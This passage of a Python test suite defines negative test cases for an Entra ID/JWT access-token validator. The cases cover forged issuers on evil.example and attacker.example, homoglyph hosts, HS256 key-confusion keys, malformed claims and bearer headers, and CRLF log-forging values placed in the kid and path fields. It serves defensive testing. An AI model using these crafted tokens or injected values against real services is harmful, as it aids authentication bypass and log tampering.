        lambda f: f.token(claims={"nbf": f.issuer.clock() + 200, "exp": f.issuer.clock() + 100}),
        "invalid_claim",
    ),
    Attack(
        "nbf_integer_beyond_any_float", RFC7519_NUMERIC, claim("nbf", -(10**400)), "invalid_claim"
    ),
    Attack("iat_as_string", RFC7519_NUMERIC, claim("iat", "yesterday"), "invalid_claim"),
    Attack("iat_false", RFC7519_NUMERIC, claim("iat", False), "invalid_claim"),
    Attack("iat_integer_beyond_any_float", RFC7519_NUMERIC, claim("iat", 10**400), "invalid_claim"),
]

TYPES: list[Attack] = [
    Attack(
        "aud_two_values",
        f"{RFC8725_3_9}; docs/design.md, rule 17",
        lambda f: f.token(claims={"aud": [f.issuer.client_id, "api://other"]}),
        "invalid_audience",
    ),
    Attack("aud_empty_list", RFC8725_3_9, claim("aud", []), "invalid_audience"),
    Attack(
        "aud_object",
        RFC8725_3_9,
        lambda f: f.token(claims={"aud": {"aud": f.issuer.client_id}}),
        "invalid_audience",
    ),
    Attack("aud_number", RFC8725_3_9, claim("aud", 1), "invalid_audience"),
    Attack("aud_null", RFC8725_3_9, claim("aud", None), "invalid_audience"),
    Attack("aud_missing", RFC8725_3_9, lambda f: f.token(remove=["aud"]), "missing_claim"),
    Attack(
        "aud_nested_list",
        RFC8725_3_9,
        lambda f: f.token(claims={"aud": [[f.issuer.client_id]]}),
        "invalid_audience",
    ),
    Attack(
        "iss_list",
        RFC8725_3_8,
        lambda f: f.token(claims={"iss": [f.issuer.issuer(f.issuer.tenant_id)]}),
        "invalid_claim",
    ),
    Attack("iss_object", RFC8725_3_8, claim("iss", {"iss": "x"}), "invalid_claim"),
    Attack("iss_null", RFC8725_3_8, claim("iss", None), "invalid_claim"),
    Attack("iss_number", RFC8725_3_8, claim("iss", 2), "invalid_claim"),
    Attack("iss_missing", RFC8725_3_8, lambda f: f.token(remove=["iss"]), "missing_claim"),
    Attack(
        "tid_list",
        ENTRA_TID,
        lambda f: f.token(claims={"tid": [f.issuer.tenant_id]}),
        "invalid_claim",
    ),
    Attack("tid_object", ENTRA_TID, claim("tid", {}), "invalid_claim"),
    Attack("tid_number", ENTRA_TID, claim("tid", 72988), "invalid_claim"),
    Attack(
        "scp_list",
        "Entra access-token reference: scp is a space-separated string",
        claim("scp", ["Tasks.Read"]),
        "invalid_claim",
    ),
    Attack(
        "scp_object",
        "Entra access-token reference: scp is a space-separated string",
        claim("scp", {"Tasks.Read": True}),
        "invalid_claim",
    ),
    Attack(
        "roles_string",
        "Entra access-token reference: roles is an array",
        claim("roles", "Tasks.Read"),
        "invalid_claim",
    ),
    Attack(
        "roles_list_of_numbers",
        "Entra access-token reference: roles is an array of strings",
        claim("roles", [1, 2]),
        "invalid_claim",
    ),
    Attack(
        "roles_list_with_object",
        "Entra access-token reference: roles is an array of strings",
        claim("roles", [{"role": "Tasks.Read"}]),
        "invalid_claim",
    ),
    Attack(
        "azp_list",
        "Entra access-token reference: azp is a string",
        lambda f: f.token(claims={"azp": ["a", "b"]}),
        "invalid_claim",
    ),
    Attack(
        "appid_object_v1",
        "Entra access-token reference: appid is a string",
        lambda f: f.token(version="1.0", claims={"appid": {}}),
        "invalid_claim",
    ),
    # JSON `null` is a value of the wrong type, not an absent claim: `"scp": null` on a user's
    # token must not make an app-only principal of it.
    Attack("scp_null", ENTRA_CLAIM_TYPES, claim("scp", None), "invalid_claim"),
    Attack(
        "scp_null_beside_roles",
        ENTRA_CLAIM_TYPES,
        lambda f: f.token(roles=["Tasks.Read"], claims={"scp": None}),
        "invalid_claim",
    ),
    Attack(
        "roles_null_app_only",
        ENTRA_CLAIM_TYPES,
        lambda f: f.token(app_only=True, claims={"roles": None}),
        "invalid_claim",
    ),
    Attack("azp_null", ENTRA_CLAIM_TYPES, claim("azp", None), "invalid_claim"),
    Attack(
        "azp_null_where_id_tokens_are_accepted",
        ENTRA_CLAIM_TYPES,
        claim("azp", None),
        "invalid_claim",
        options={"accept_id_tokens": True},
    ),
    Attack(
        "appid_null_v1",
        ENTRA_CLAIM_TYPES,
        lambda f: f.token(version="1.0", claims={"appid": None}),
        "invalid_claim",
    ),
    Attack(
        "idtyp_null_app_only",
        ENTRA_CLAIM_TYPES,
        lambda f: f.token(app_only=True, roles=["Tasks.Read"], claims={"idtyp": None}),
        "invalid_claim",
    ),
    Attack("oid_null", ENTRA_CLAIM_TYPES, claim("oid", None), "invalid_claim"),
    Attack("oid_number", ENTRA_CLAIM_TYPES, claim("oid", 0), "invalid_claim"),
    Attack("sub_null", ENTRA_CLAIM_TYPES, claim("sub", None), "invalid_claim"),
    Attack(
        "preferred_username_list",
        ENTRA_CLAIM_TYPES,
        claim("preferred_username", ["a", "b"]),
        "invalid_claim",
    ),
    Attack(
        "ver_number",
        "Entra access-token reference: ver is a string",
        claim("ver", 2.0),
        "version_mismatch",
    ),
    Attack(
        "ver_list",
        "Entra access-token reference: ver is a string",
        claim("ver", ["2.0"]),
        "version_mismatch",
    ),
    Attack(
        "ver_missing", "docs/design.md, rule 18", lambda f: f.token(remove=["ver"]), "missing_claim"
    ),
]

ISSUER: list[Attack] = [
    Attack(
        "iss_suffix_look_alike_host",
        ENTRA_ISSUER,
        iss("https://login.microsoftonline.com.evil.example/{tid}/v2.0"),
        "invalid_issuer",
    ),
    Attack(
        "iss_path_look_alike",
        ENTRA_ISSUER,
        iss("https://evil.example/login.microsoftonline.com/{tid}/v2.0"),
        "invalid_issuer",
    ),
    Attack(
        "iss_user_info_look_alike",
        ENTRA_ISSUER,
        iss("https://login.microsoftonline.com@evil.example/{tid}/v2.0"),
        "invalid_issuer",
    ),
    Attack(
        "iss_upper_case_host",
        ENTRA_ISSUER,
        iss("https://LOGIN.MICROSOFTONLINE.COM/{tid}/v2.0"),
        "invalid_issuer",
    ),
    Attack(
        "iss_trailing_slash",
        ENTRA_ISSUER,
        iss("https://login.microsoftonline.com/{tid}/v2.0/"),
        "invalid_issuer",
    ),
    Attack(
        "iss_plain_http",
        ENTRA_ISSUER,
        iss("http://login.microsoftonline.com/{tid}/v2.0"),
        "invalid_issuer",
    ),
    Attack(
        "iss_explicit_port",
        ENTRA_ISSUER,
        iss("https://login.microsoftonline.com:443/{tid}/v2.0"),
        "invalid_issuer",
    ),
    Attack(
        "iss_with_query",
        ENTRA_ISSUER,
        iss("https://login.microsoftonline.com/{tid}/v2.0?x=1"),
        "invalid_issuer",
    ),
    Attack(
        "iss_upper_case_version",
        ENTRA_ISSUER,
        iss("https://login.microsoftonline.com/{tid}/V2.0"),
        "invalid_issuer",
    ),
    Attack(
        "iss_with_whitespace",
        ENTRA_ISSUER,
        iss(" https://login.microsoftonline.com/{tid}/v2.0"),
        "invalid_issuer",
    ),
    Attack(
        "iss_homoglyph_host",
        ENTRA_ISSUER,
        iss("https://login.microsoftonIine.com/{tid}/v2.0"),
        "invalid_issuer",
    ),
    Attack(
        "iss_us_government_cloud",
        f"{ENTRA_ISSUER} (sovereign clouds)",
        iss("https://login.microsoftonline.us/{tid}/v2.0"),
        "invalid_issuer",
    ),
    Attack(
        "iss_china_cloud",
        f"{ENTRA_ISSUER} (sovereign clouds)",
        iss("https://login.partner.microsoftonline.cn/{tid}/v2.0"),
        "invalid_issuer",
    ),
    Attack(
        "iss_china_cloud_v1",
        f"{ENTRA_ISSUER} (sovereign clouds)",
        lambda f: f.token(
            version="1.0", claims={"iss": f"https://sts.chinacloudapi.cn/{f.issuer.tenant_id}/"}
        ),
        "invalid_issuer",
    ),
    Attack(
        "iss_v1_host_with_v2_ver",
        "Entra: ver must agree with the issuer",
        lambda f: f.token(version="1.0", claims={"ver": "2.0"}),
        "version_mismatch",
    ),
    Attack(
        "iss_v2_host_with_v1_ver",
        "Entra: ver must agree with the issuer",
        claim("ver", "1.0"),
        "version_mismatch",
    ),
    Attack(
        "iss_v1_without_trailing_slash",
        ENTRA_ISSUER,
        lambda f: f.token(
            version="1.0", claims={"iss": f"https://sts.windows.net/{f.issuer.tenant_id}"}
        ),
        "invalid_issuer",
    ),
    Attack(
        "iss_v2_path_on_the_v1_host",
        ENTRA_ISSUER,
        iss("https://sts.windows.net/{tid}/v2.0"),
        "invalid_issuer",
    ),
    Attack(
        "iss_template_placeholder",
        "Entra: /common metadata advertises a template, not an issuer",
        iss("https://login.microsoftonline.com/{{tenantid}}/v2.0"),
        "invalid_issuer",
    ),
    Attack(
        "iss_keyword_common",
        "Entra: /common is not an issuer",
        iss("https://login.microsoftonline.com/common/v2.0"),
        "invalid_issuer",
    ),
    Attack(
        "iss_of_another_tenant_than_tid",
        f"{ENTRA_ISSUER}; the iss/tid cross-check",
        lambda f: f.token(claims={"iss": f.issuer.issuer(OTHER_TENANT_ID)}),
        "invalid_issuer",
    ),
    Attack(
        "iss_upper_case_tenant",
        ENTRA_ISSUER,
        lambda f: f.token(
            claims={"iss": f"https://login.microsoftonline.com/{f.issuer.tenant_id.upper()}/v2.0"}
        ),
        "invalid_issuer",
    ),
    Attack(
        "iss_attacker_host",
        f"{ENTRA_ISSUER}; docs/design.md, rule 8 (no URL from the token)",
        iss("https://attacker.example/{tid}/v2.0"),
        "invalid_issuer",
    ),
]

TENANT: list[Attack] = [
    Attack(
        "tid_domain_name",
        ENTRA_TID,
        lambda f: f.token(
            claims={
                "tid": "contoso.onmicrosoft.com",
                "iss": "https://login.microsoftonline.com/contoso.onmicrosoft.com/v2.0",
            }
        ),
        "invalid_claim",
    ),
    Attack(
        "tid_upper_case",
        ENTRA_TID,
        lambda f: f.token(claims={"tid": f.issuer.tenant_id.upper()}),
        "invalid_claim",
    ),
    Attack(
        "tid_in_braces",
        ENTRA_TID,
        lambda f: f.token(claims={"tid": f"{{{f.issuer.tenant_id}}}"}),
        "invalid_claim",
    ),
    Attack(
        "tid_without_dashes",
        ENTRA_TID,
        lambda f: f.token(claims={"tid": f.issuer.tenant_id.replace("-", "")}),
        "invalid_claim",
    ),
    Attack("tid_keyword_organizations", ENTRA_TID, claim("tid", "organizations"), "invalid_claim"),
    Attack("tid_empty", ENTRA_TID, claim("tid", ""), "invalid_claim"),
    Attack(
        "tid_with_trailing_newline",
        ENTRA_TID,
        lambda f: f.token(claims={"tid": f.issuer.tenant_id + "\n"}),
        "invalid_claim",
    ),
    Attack("tid_missing", ENTRA_TID, lambda f: f.token(remove=["tid"]), "missing_claim"),
    Attack(
        "tid_of_another_tenant_single_tenant_api",
        "Entra: a single-tenant API accepts its tenant only",
        lambda f: f.token(tenant_id=OTHER_TENANT_ID),
        "invalid_issuer",
        options={"tenant": "72f988bf-0000-4000-8000-00000000a001"},
    ),
    Attack(
        "tid_outside_the_allow_list",
        "Entra multi-tenant guidance: restrict issuers to known tenants",
        lambda f: f.token(tenant_id=OTHER_TENANT_ID),
        "tenant_not_allowed",
        options={"allowed_tenants": ["72f988bf-0000-4000-8000-00000000a001"]},
    ),
    Attack(
        "personal_account_for_organizations",
        "Entra: organizations excludes the MSA tenant",
        lambda f: f.token(personal=True),
        "tenant_not_allowed",
    ),
    Attack(
        "msa_tid_with_an_organization_issuer",
        "Entra: the MSA tenant id, 9188040d-...",
        lambda f: f.token(claims={"tid": MSA_TENANT_ID}),
        "invalid_issuer",
    ),
    Attack(
        "work_account_for_consumers",
        "Entra: consumers is the MSA tenant only",
        lambda f: f.token(),
        "invalid_issuer",
        options={"tenant": "consumers"},
    ),
]

KEYS: list[Attack] = [
    Attack(
        "key_bound_to_another_tenant",
        STORM_0558,
        lambda f: f.token(),
        "key_issuer_mismatch",
        setup=_bind_key(f"https://login.microsoftonline.com/{OTHER_TENANT_ID}/v2.0"),
    ),
    Attack(
        "consumer_key_signing_a_work_token",
        STORM_0558,
        lambda f: f.token(),
        "key_issuer_mismatch",
        setup=_bind_key(f"https://login.microsoftonline.com/{MSA_TENANT_ID}/v2.0"),
    ),
    Attack(
        "key_bound_to_another_cloud",
        STORM_0558,
        lambda f: f.token(),
        "key_issuer_mismatch",
        setup=_bind_key("https://login.microsoftonline.us/{tenantid}/v2.0"),
    ),
    Attack(
        "key_bound_to_v1_issuer_of_another_tenant",
        STORM_0558,
        lambda f: f.token(version="1.0"),
        "key_issuer_mismatch",
        setup=_bind_key(f"https://sts.windows.net/{OTHER_TENANT_ID}/"),
    ),
    Attack(
        "key_with_use_enc",
        "RFC 7517 §4.2; docs/design.md, rule 15",
        lambda f: f.token(),
        "unknown_kid",
        setup=lambda f: f.alter_jwk(f.kid, use="enc"),
    ),
    Attack(
        "key_with_key_ops_encrypt",
        "RFC 7517 §4.3; docs/design.md, rule 15",
        lambda f: f.token(),
        "unknown_kid",
        setup=lambda f: f.alter_jwk(f.kid, key_ops=["encrypt"]),
    ),
    Attack(
        "key_of_1024_bits",
        "RFC 7518 §3.3 (RSA keys of 2048 bits or more)",
        lambda f: f.token(key=weak_key()),
        "unknown_kid",
        setup=_small_key,
    ),
    Attack(
        "key_declared_rs384_token_rs256",
        "RFC 7517 §4.4; RFC 8725 §3.1",
        lambda f: f.token(),
        "invalid_signature",
        setup=lambda f: f.alter_jwk(f.kid, alg="RS384"),
    ),
    Attack(
        "key_declared_hs256",
        "RFC 8725 §3.1; CVE-2015-9235",
        lambda f: f.token(),
        "unknown_kid",
        setup=lambda f: f.alter_jwk(f.kid, alg="HS256"),
    ),
    Attack(
        "key_symmetric_oct_with_hs256_token",
        "CVE-2015-9235; RFC 8725 §3.1",
        lambda f: f.hmac(b"secret"),
        "unsupported_algorithm",
        setup=lambda f: f.alter_jwk(f.kid, kty="oct", k="c2VjcmV0"),
    ),
    Attack(
        "key_kty_ec",
        "docs/design.md, rule 15 (kty RSA only)",
        lambda f: f.token(),
        "unknown_kid",
        setup=lambda f: f.alter_jwk(f.kid, kty="EC"),
    ),
    Attack(
        "key_with_exponent_one",
        "RFC 8017 §3.1; RFC 8725 §3.4",
        lambda f: f.token(),
        "unknown_kid",
        setup=lambda f: f.alter_jwk(f.kid, e="AQ"),
    ),
]

KIND: list[Attack] = [
    Attack(
        "id_token_v2",
        f"{RFC8725_2_8}; Entra: ID tokens are not access tokens",
        lambda f: f.token(remove=["azp"]),
        "not_an_access_token",
    ),
    Attack(
        "id_token_v1",
        f"{RFC8725_2_8}; Entra: ID tokens are not access tokens",
        lambda f: f.token(version="1.0", remove=["appid"]),
        "not_an_access_token",
    ),
    Attack(
        "graph_token_with_nonce",
        "Entra: Graph tokens carry a header nonce",
        lambda f: f.token(audience=GRAPH_APP_ID, headers={"kid": f.kid, "nonce": "abc"}),
        "graph_token",
    ),
    Attack(
        "graph_audience_without_nonce",
        f"{RFC8725_3_9}; Entra: tokens for Microsoft Graph",
        lambda f: f.token(audience=GRAPH_APP_ID),
        "invalid_audience",
    ),
    Attack(
        "graph_url_audience",
        RFC8725_3_9,
        lambda f: f.token(audience="https://graph.microsoft.com"),
        "invalid_audience",
    ),
    Attack(
        "another_api_audience",
        RFC8725_3_9,
        lambda f: f.token(audience="5b9c0d1e-0000-4000-8000-0000000a0002"),
        "invalid_audience",
    ),
    Attack(
        "another_api_app_id_uri",
        RFC8725_3_9,
        lambda f: f.token(audience="api://5b9c0d1e-0000-4000-8000-0000000a0002"),
        "invalid_audience",
    ),
    Attack(
        "audience_upper_case",
        RFC8725_3_9,
        lambda f: f.token(audience=f.issuer.client_id.upper()),
        "invalid_audience",
    ),
    Attack(
        "audience_with_trailing_slash",
        RFC8725_3_9,
        lambda f: f.token(audience=f"api://{f.issuer.client_id}/"),
        "invalid_audience",
    ),
    Attack(
        "audience_is_the_calling_client",
        f"{RFC8725_3_9}; {RFC8725_2_8}",
        lambda f: f.token(audience=DEFAULT_CALLER_CLIENT_ID),
        "invalid_audience",
    ),
    Attack(
        "access_token_without_scp_or_roles",
        "docs/design.md, rule 21",
        lambda f: f.token(scopes=None),
        "no_scopes_or_roles",
    ),
    Attack(
        "app_only_token_without_roles",
        "docs/design.md, rule 21",
        lambda f: f.token(app_only=True),
        "no_scopes_or_roles",
    ),
    Attack(
        "forged_token_lacking_the_scope",
        "A forgery is 401, never a 403 that reads its scopes",
        lambda f: f.issuer.sign(
            f.claims(scp="User.Read"), headers={"kid": f.kid}, key=attacker_key()
        ),
        "invalid_signature",
    ),
    Attack(
        "expired_token_lacking_the_scope",
        "Token checks come before scope checks",
        lambda f: f.token(scopes=("User.Read",), issued_at=0, lifetime=60),
        "token_expired",
    ),
]

REQUEST: list[Attack] = [
    Attack(
        "kid_forging_a_log_line",
        "CWE-117 improper output neutralization for logs",
        kid("k\n2026-01-01 INFO aad_guard accepted GET /admin"),
        "unknown_kid",
    ),
    Attack(
        "path_forging_a_log_line",
        "CWE-117 improper output neutralization for logs",
        lambda f: Probe(path="/tasks%0D%0A2026-01-01%20INFO%20aad_guard%20accepted"),
        "missing_token",
    ),
    Attack(
        "two_authorization_headers",
        "RFC 6750 §2; docs/design.md, rule 3",
        lambda f: Probe.authorization("Bearer " + f.token(), "Bearer " + f.token()),
        "duplicate_authorization",
    ),
    Attack(
        "bearer_without_token",
        RFC6750_2_1,
        bearer_text(lambda f: "Bearer"),
        "malformed_authorization",
    ),
    Attack(
        "bearer_with_spaces_only",
        RFC6750_2_1,
        bearer_text(lambda f: "Bearer   "),
        "malformed_authorization",
    ),
    Attack(
        "bearer_two_tokens",
        RFC6750_2_1,
        bearer_text(lambda f: f"Bearer {f.token()} {f.token()}"),
        "malformed_authorization",
    ),
    Attack(
        "bearer_token_and_comma",
        RFC6750_2_1,
        bearer_text(lambda f: f"Bearer {f.token()},"),
        "malformed_authorization",
    ),
    Attack(
        "bearer_tab_separator",
        RFC6750_2_1,
        bearer_text(lambda f: f"Bearer\t{f.token()}"),
        "malformed_authorization",
    ),
    Attack(
        "bearer_token_with_nul",
        RFC6750_2_1,
        bearer_text(lambda f: f"Bearer {f.token()}\x00"),
        "malformed_authorization",
    ),
    Attack(
        "bearer_token_with_latin1_byte",
        RFC6750_2_1,
        lambda f: Probe.authorization(b"Bearer " + f.token().encode() + b"\xe9"),
        "malformed_authorization",
    ),
    Attack(
        "bearer_token_quoted",
        RFC6750_2_1,
        bearer_text(lambda f: f'Bearer "{f.token()}"'),
        "malformed_authorization",
    ),
    Attack(
        "token_in_query_string",
        "RFC 6750 §2.3 (refused by design); docs/design.md, rule 1",
        lambda f: Probe(query=f"access_token={f.token()}"),
        "missing_token",
    ),
    Attack(
        "token_in_form_body",
        "RFC 6750 §2.2 (refused by design); docs/design.md, rule 1",
        lambda f: Probe(
            ((b"content-type", b"application/x-www-form-urlencoded"),),
            body=f"access_token={f.token()}".encode(),
            method="POST",
        ),
        "missing_token",
    ),
    Attack(
        "token_in_cookie",
        "docs/design.md, rule 1",
        lambda f: Probe(((b"cookie", f"access_token={f.token()}".encode()),)),
        "missing_token",
    ),
    Attack(
        "token_in_x_authorization",
        "docs/design.md, rule 1",
        lambda f: Probe(((b"x-authorization", f"Bearer {f.token()}".encode()),)),
        "missing_token",
    ),
    Attack(
        "token_in_proxy_authorization",
        "docs/design.md, rule 1",
        lambda f: Probe(((b"proxy-authorization", f"Bearer {f.token()}".encode()),)),
        "missing_token",
    ),
    Attack(
        "token_under_basic_scheme",
        "RFC 9110 §11.6.2; docs/design.md, rule 1",
        bearer_text(lambda f: f"Basic {f.token()}"),
        "missing_token",
    ),
    Attack(
        "bearer_scheme_without_space",
        RFC6750_2_1,
        bearer_text(lambda f: f"Bearer{f.token()}"),
        "missing_token",
    ),
]

ATTACKS: list[Attack] = [
    *ALG,
    *SIGNATURE,
    *KID,
    *KEYS_FROM_TOKEN,
    *STRUCTURE,
    *ENCODING,
    *SIZE,
    *TIME,
    *TYPES,
    *ISSUER,
    *TENANT,
    *KEYS,
    *KIND,
    *REQUEST,
]
